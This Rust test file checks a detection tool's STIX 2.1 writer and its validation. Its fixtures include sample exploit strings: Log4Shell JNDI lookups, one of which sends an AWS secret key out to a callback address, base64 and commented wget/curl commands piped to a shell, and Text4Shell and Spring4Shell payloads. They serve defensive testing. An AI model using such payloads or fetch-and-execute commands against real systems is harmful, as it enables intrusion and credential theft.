//! The STIX 2.1 writer on indicators folded out of realistic detector hits:
//! a snapshot, the structure the hub and partners rely on, and the bundle
//! checked by OASIS's stix2-validator at its strictest
//! (`tests/validate_stix.py`).
//!
//! The validator needs the Python package stix2-validator
//! (scripts/install-test-deps installs it into `.cache/test-venv`). Without
//! it the validation tests print a note and pass, unless
//! `VIGILO_REQUIRE_REFERENCES=1`, where they fail.

use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::Command;

use jiff::Timestamp;
use serde_json::Value;
use vigilo_core::indicator::{Indicator, Observable, Observation, aggregate};
use vigilo_formats::stix::{SensorClass, SightingsInput, write_bundle};

/// `wget "http://198.51.100.23/win\stage2.sh?tag='kx'" -O- | sh`: a URL
/// with a backslash and quotes, which the pattern must escape.
const ODD_URL: &str = r"http://198.51.100.23/win\stage2.sh?tag='kx'";

fn ts(s: &str) -> Option<Timestamp> {
    Some(s.parse().unwrap())
}

fn ip(s: &str) -> Option<IpAddr> {
    Some(s.parse().unwrap())
}

fn hit(
    rule: &str,
    decoded: &str,
    callback: Option<&str>,
    payload: Vec<Observable>,
    source_ip: Option<IpAddr>,
    timestamp: Option<Timestamp>,
) -> Observation {
    Observation {
        rule: rule.into(),
        decoded: decoded.into(),
        callback: callback.map(|h| Observable::host(h).unwrap()),
        payload,
        source_ip,
        timestamp,
    }
}

/// Hits as `vigilo logs` reduces them: a callback domain hit three times
/// from two scanners, a callback address also used to exfiltrate a secret,
/// two second stages whose base64 commands name a payload server, a
/// reconnaissance probe from an IPv6 scanner, a Text4Shell lookup from a log
/// line with no time or address, a Spring4Shell request, and a benign lookup
/// that must not become an indicator.
fn observations() -> Vec<Observation> {
    let b64_1 = "KGN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuMjM6NTg3NC9saC5zaHx8d2dldCAtcSAtTy0gaHR0cDovLzE5\
                 OC41MS4xMDAuMjM6NTg3NC9saC5zaCl8YmFzaA==";
    let b64_2 = "d2dldCAiaHR0cDovLzE5OC41MS4xMDAuMjMvd2luXHN0YWdlMi5zaD90YWc9J2t4JyIgLU8tIHwgc2g=";
    vec![
        hit(
            "log4shell-jndi",
            "${jndi:ldap://c6r1kq.interact.example/a}",
            Some("C6R1KQ.interact.example"),
            vec![],
            ip("192.0.2.10"),
            ts("2021-12-10T08:14:03.250Z"),
        ),
        hit(
            "log4shell-jndi",
            "${jndi:ldap://c6r1kq.interact.example/a}",
            Some("c6r1kq.interact.example"),
            vec![],
            ip("192.0.2.10"),
            ts("2021-12-10T08:14:05Z"),
        ),
        hit(
            "log4shell-jndi",
            "${jndi:rmi://c6r1kq.interact.example:1099/x}",
            Some("c6r1kq.interact.example."),
            vec![],
            ip("198.51.100.77"),
            ts("2021-12-11T22:01:00Z"),
        ),
        hit(
            "log4shell-jndi-exfil",
            "${jndi:ldap://203.0.113.50:1389/${env:AWS_SECRET_ACCESS_KEY}}",
            Some("203.0.113.50"),
            vec![],
            ip("198.51.100.77"),
            ts("2021-12-11T22:01:05.999Z"),
        ),
        hit(
            "log4shell-jndi",
            "${jndi:ldap://203.0.113.50:1389/o=tomcat}",
            Some("203.0.113.50"),
            vec![],
            ip("198.51.100.77"),
            ts("2021-12-11T22:01:07Z"),
        ),
        hit(
            "log4shell-jndi",
            &format!("${{jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/{b64_1}}}"),
            Some("203.0.113.9"),
            vec![
                Observable::url("http://198.51.100.23:5874/lh.sh"),
                Observable::host("198.51.100.23").unwrap(),
            ],
            ip("192.0.2.44"),
            ts("2021-12-12T03:30:00Z"),
        ),
        hit(
            "log4shell-jndi",
            &format!("${{jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/{b64_2}}}"),
            Some("203.0.113.9"),
            vec![
                Observable::url(ODD_URL),
                Observable::host("198.51.100.23").unwrap(),
            ],
            ip("192.0.2.44"),
            ts("2021-12-12T03:31:12Z"),
        ),
        hit(
            "log4shell-recon",
            "${java:version}",
            None,
            vec![],
            ip("2001:db8:4:1::17"),
            ts("2021-12-13T11:00:00Z"),
        ),
        hit(
            "text4shell-lookup",
            "${url:UTF-8:http://t4s.callback.example/probe}",
            Some("t4s.callback.example"),
            vec![],
            None,
            None,
        ),
        hit(
            "spring4shell-classloader",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=\
             %{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))",
            None,
            vec![],
            ip("192.0.2.200"),
            ts("2022-04-01T12:00:00Z"),
        ),
        hit(
            "lookup-benign",
            "${jndi:java:comp/env/jdbc/shop}",
            None,
            vec![],
            ip("192.0.2.99"),
            ts("2021-12-10T09:00:00Z"),
        ),
    ]
}

pub(crate) fn input(generated: &str) -> SightingsInput {
    SightingsInput {
        sensor: "shop-web-01".into(),
        sensor_class: SensorClass::System,
        generated: generated.parse().unwrap(),
        indicators: indicators(),
    }
}

fn indicators() -> Vec<Indicator> {
    aggregate(&observations(), |rule| rule != "lookup-benign")
}

fn render_input(input: &SightingsInput) -> String {
    let mut out = Vec::new();
    write_bundle(input, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn render() -> String {
    render_input(&input("2021-12-14T06:00:00Z"))
}

fn objects<'a>(bundle: &'a Value, kind: &str) -> Vec<&'a Value> {
    bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|o| o["type"] == kind)
        .collect()
}

fn by_id<'a>(bundle: &'a Value, id: &Value) -> &'a Value {
    bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| &o["id"] == id)
        .unwrap_or_else(|| panic!("{id} is not in the bundle"))
}

#[test]
fn stix_snapshot() {
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path("../snapshots");
    settings.set_prepend_module_to_snapshot(false);
    settings.set_omit_expression(true);
    settings.set_description("STIX 2.1 bundle of the hits built by stix::observations()");
    settings.bind(|| insta::assert_snapshot!("stix_bundle", render()));
}

#[test]
fn output_is_reproducible() {
    assert_eq!(render(), render());
    // A later run: same indicators (newer versions), new sightings.
    let a: Value = serde_json::from_str(&render()).unwrap();
    let b: Value = serde_json::from_str(&render_input(&input("2021-12-15T06:00:00Z"))).unwrap();
    let ids = |v: &Value, kind: &str| -> Vec<Value> {
        objects(v, kind).iter().map(|o| o["id"].clone()).collect()
    };
    assert_eq!(ids(&a, "indicator"), ids(&b, "indicator"));
    assert_eq!(ids(&a, "vulnerability"), ids(&b, "vulnerability"));
    assert_eq!(ids(&a, "identity"), ids(&b, "identity"));
    let (sa, sb) = (ids(&a, "sighting"), ids(&b, "sighting"));
    assert!(sa.iter().all(|s| !sb.contains(s)));
    assert_ne!(a["id"], b["id"]);
    assert_eq!(
        objects(&b, "indicator")[0]["modified"],
        "2021-12-15T06:00:00.000Z"
    );
}

#[test]
fn bundle_content() {
    let v: Value = serde_json::from_str(&render()).unwrap();
    assert_eq!(v["type"], "bundle");
    assert!(
        v.get("spec_version").is_none(),
        "2.1 bundles carry no spec_version"
    );
    let count = |kind: &str| objects(&v, kind).len();
    // Callbacks: the domain, two addresses, the Text4Shell host; payload:
    // two URLs and an address; sources: five addresses (not the benign one).
    assert_eq!(count("indicator"), 4 + 3 + 5);
    assert_eq!(count("sighting"), 12);
    assert_eq!(count("identity"), 1);
    assert_eq!(count("attack-pattern"), 3);
    assert_eq!(count("vulnerability"), 4);

    let sensor = &objects(&v, "identity")[0];
    assert_eq!(sensor["name"], "shop-web-01");
    assert_eq!(sensor["identity_class"], "system");
    for o in v["objects"].as_array().unwrap() {
        assert_eq!(o["spec_version"], "2.1");
        assert_eq!(o["created_by_ref"], sensor["id"]);
        assert_eq!(o["created"], "2021-12-14T06:00:00.000Z");
    }

    let patterns: Vec<&str> = objects(&v, "indicator")
        .iter()
        .map(|i| i["pattern"].as_str().unwrap())
        .collect();
    assert_eq!(
        patterns,
        [
            "[domain-name:value = 'c6r1kq.interact.example']",
            "[ipv4-addr:value = '203.0.113.50']",
            "[ipv4-addr:value = '203.0.113.9']",
            "[domain-name:value = 't4s.callback.example']",
            "[ipv4-addr:value = '198.51.100.23']",
            "[url:value = 'http://198.51.100.23/win\\\\stage2.sh?tag=\\'kx\\'']",
            "[url:value = 'http://198.51.100.23:5874/lh.sh']",
            "[ipv4-addr:value = '198.51.100.77']",
            "[ipv4-addr:value = '192.0.2.10']",
            "[ipv4-addr:value = '192.0.2.44']",
            "[ipv4-addr:value = '192.0.2.200']",
            "[ipv6-addr:value = '2001:db8:4:1::17']",
        ]
    );
    assert!(
        !patterns.iter().any(|p| p.contains("192.0.2.99")),
        "a benign lookup's requester became an indicator"
    );

    let indicator = |pattern_part: &str| {
        *objects(&v, "indicator")
            .iter()
            .find(|i| i["pattern"].as_str().unwrap().contains(pattern_part))
            .unwrap()
    };
    let cves = |i: &Value| -> Vec<String> {
        i["external_references"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|r| {
                        assert_eq!(r["source_name"], "cve");
                        r["external_id"].as_str().unwrap().to_owned()
                    })
                    .collect()
            })
            .unwrap_or_default()
    };
    let sighting_of = |i: &Value| {
        *objects(&v, "sighting")
            .iter()
            .find(|s| s["sighting_of_ref"] == i["id"])
            .unwrap()
    };

    let domain = indicator("c6r1kq");
    assert_eq!(
        domain["name"],
        "Log4Shell callback host c6r1kq.interact.example"
    );
    assert_eq!(
        domain["indicator_types"],
        serde_json::json!(["malicious-activity"])
    );
    assert_eq!(
        domain["labels"],
        serde_json::json!(["exploit-callback", "log4shell-jndi"])
    );
    assert_eq!(domain["valid_from"], "2021-12-10T08:14:03.250Z");
    assert_eq!(cves(domain), ["CVE-2021-44228", "CVE-2021-45046"]);
    let d = domain["description"].as_str().unwrap();
    assert!(
        d.contains("Seen 3 times by shop-web-01 in hits of log4shell-jndi."),
        "{d}"
    );
    assert!(
        d.ends_with("Example decoded payload: ${jndi:ldap://c6r1kq.interact.example/a}"),
        "{d}"
    );
    let s = sighting_of(domain);
    assert_eq!(s["count"], 3);
    assert_eq!(s["first_seen"], "2021-12-10T08:14:03.250Z");
    assert_eq!(s["last_seen"], "2021-12-11T22:01:00.000Z");
    assert_eq!(s["where_sighted_refs"], serde_json::json!([sensor["id"]]));

    let exfil = indicator("203.0.113.50");
    assert_eq!(
        exfil["labels"],
        serde_json::json!(["exploit-callback", "log4shell-jndi", "log4shell-jndi-exfil"])
    );
    assert_eq!(sighting_of(exfil)["last_seen"], "2021-12-11T22:01:07.000Z");

    let odd = indicator("stage2");
    assert_eq!(odd["name"], format!("Log4Shell payload URL {ODD_URL}"));
    assert_eq!(odd["kill_chain_phases"][0]["phase_name"], "installation");
    assert!(
        odd["description"]
            .as_str()
            .unwrap()
            .contains("Basic/Command/Base64/d2dl")
    );

    let text4shell = indicator("t4s.callback");
    assert_eq!(cves(text4shell), ["CVE-2022-42889"]);
    assert_eq!(text4shell["valid_from"], "2021-12-14T06:00:00.000Z");
    let s = sighting_of(text4shell);
    assert_eq!(s["count"], 1);
    assert!(s.get("first_seen").is_none() && s.get("last_seen").is_none());

    let spring = indicator("192.0.2.200");
    assert_eq!(spring["name"], "Spring4Shell scanning source 192.0.2.200");
    assert_eq!(
        spring["indicator_types"],
        serde_json::json!(["malicious-activity", "anomalous-activity"])
    );
    assert_eq!(spring["labels"][0], "scanning-source");
    assert_eq!(cves(spring), ["CVE-2022-22965"]);
    let recon = indicator("2001:db8:4:1::17");
    assert_eq!(cves(recon), ["CVE-2021-44228", "CVE-2021-45046"]);

    // indicator --indicates--> attack-pattern --targets--> vulnerability.
    let mut chains: Vec<(String, String)> = Vec::new();
    for r in objects(&v, "relationship") {
        let source = by_id(&v, &r["source_ref"]);
        let target = by_id(&v, &r["target_ref"]);
        match r["relationship_type"].as_str().unwrap() {
            "indicates" => {
                assert_eq!(source["type"], "indicator");
                assert_eq!(target["type"], "attack-pattern");
            }
            "targets" => {
                assert_eq!(source["type"], "attack-pattern");
                assert_eq!(target["type"], "vulnerability");
                chains.push((
                    source["name"].as_str().unwrap().to_owned(),
                    target["name"].as_str().unwrap().to_owned(),
                ));
            }
            other => panic!("unexpected relationship {other}"),
        }
    }
    chains.sort();
    assert_eq!(
        chains,
        [
            (
                "Log4Shell exploitation".to_owned(),
                "CVE-2021-44228".to_owned()
            ),
            (
                "Log4Shell exploitation".to_owned(),
                "CVE-2021-45046".to_owned()
            ),
            (
                "Spring4Shell exploitation".to_owned(),
                "CVE-2022-22965".to_owned()
            ),
            (
                "Text4Shell exploitation".to_owned(),
                "CVE-2022-42889".to_owned()
            ),
        ]
    );
    let indicates = objects(&v, "relationship")
        .iter()
        .filter(|r| r["relationship_type"] == "indicates")
        .count();
    assert_eq!(
        indicates, 12,
        "each indicator names exactly one family here"
    );
}

// Validation by OASIS's stix2-validator.

/// The Python to run the validator with: `VIGILO_PYTHON`, else the test
/// venv at the workspace root when there is one, else `python3`.
fn python() -> PathBuf {
    if let Some(p) = std::env::var_os("VIGILO_PYTHON") {
        return PathBuf::from(p);
    }
    let venv = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.cache/test-venv/bin/python");
    if venv.exists() {
        return venv;
    }
    PathBuf::from("python3")
}

/// Exit status of `validate_stix.py` when stix2-validator is missing.
const MISSING: i32 = 3;

fn require() -> bool {
    std::env::var("VIGILO_REQUIRE_REFERENCES").is_ok_and(|v| v == "1")
}

/// Runs `validate_stix.py` on `text`: `None` when the validator cannot run
/// (and that is allowed), else its exit code and stderr.
#[allow(clippy::print_stderr)]
pub(crate) fn run_validator(text: &str) -> Option<(Option<i32>, String)> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("bundle.stix.json");
    std::fs::write(&file, text).unwrap();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validate_stix.py");
    let python = python();
    let output = match Command::new(&python).arg(&script).arg(&file).output() {
        Ok(o) => o,
        Err(e) if !require() => {
            eprintln!(
                "note: STIX bundle not validated: cannot run {}: {e}",
                python.display()
            );
            return None;
        }
        Err(e) => panic!("cannot run {}: {e}", python.display()),
    };
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    if output.status.code() == Some(MISSING) {
        assert!(
            !require(),
            "VIGILO_REQUIRE_REFERENCES=1 but stix2-validator is missing \
             (run scripts/install-test-deps): {stderr}"
        );
        eprintln!("note: STIX bundle not validated: {stderr}");
        return None;
    }
    Some((output.status.code(), stderr))
}

#[test]
fn bundle_passes_stix2_validator_strictly() {
    if let Some((code, stderr)) = run_validator(&render()) {
        assert_eq!(
            code,
            Some(0),
            "STIX bundle rejected by stix2-validator:\n{stderr}"
        );
    }
}

#[test]
fn organisation_bundle_passes_stix2_validator() {
    let mut input = input("2021-12-14T06:00:00Z");
    input.sensor = "ACME Corp SOC".into();
    input.sensor_class = SensorClass::Organization;
    if let Some((code, stderr)) = run_validator(&render_input(&input)) {
        assert_eq!(
            code,
            Some(0),
            "STIX bundle rejected by stix2-validator:\n{stderr}"
        );
    }
}

#[test]
fn validator_rejects_broken_bundles() {
    // The check is only worth something if it can fail, on errors and on
    // what the validator only warns about.
    let good: Value = serde_json::from_str(&render()).unwrap();
    let first_indicator = good["objects"]
        .as_array()
        .unwrap()
        .iter()
        .position(|o| o["type"] == "indicator")
        .unwrap();
    let mut unescaped = good.clone();
    unescaped["objects"][first_indicator]["pattern"] = "[url:value = 'http://x/it's']".into();
    // A version-5 id, references included: only a `uuid-check` warning,
    // an error when strict.
    let id = good["objects"][first_indicator]["id"].as_str().unwrap();
    let v5 = format!("{}5{}", &id[..id.len() - 22], &id[id.len() - 21..]);
    let uuid_v5: Value = serde_json::from_str(&good.to_string().replace(id, &v5)).unwrap();
    // An indicator `indicates` a vulnerability: the `relationship-types`
    // warning that made vigilo go through an attack pattern.
    let mut indicates_vuln = good.clone();
    let vuln = objects(&good, "vulnerability")[0]["id"].clone();
    let rel = good["objects"]
        .as_array()
        .unwrap()
        .iter()
        .position(|o| o["relationship_type"] == "indicates")
        .unwrap();
    indicates_vuln["objects"][rel]["target_ref"] = vuln;
    // A sighting of something not in the bundle.
    let mut dangling = good.clone();
    let s = good["objects"]
        .as_array()
        .unwrap()
        .iter()
        .position(|o| o["type"] == "sighting")
        .unwrap();
    dangling["objects"][s]["sighting_of_ref"] =
        "indicator--00000000-0000-4000-8000-000000000000".into();
    for (what, doc, reason) in [
        ("unescaped quote in a pattern", unescaped, "pattern: FAIL"),
        ("UUIDv5 indicator id", uuid_v5, "{103}"),
        ("indicator indicates vulnerability", indicates_vuln, "{202}"),
        ("dangling sighting_of_ref", dangling, "is not in the bundle"),
    ] {
        if let Some((code, stderr)) = run_validator(&doc.to_string()) {
            assert_eq!(code, Some(1), "{what}: not rejected:\n{stderr}");
            assert!(
                stderr.contains(reason),
                "{what}: rejected for another reason:\n{stderr}"
            );
        }
    }
}
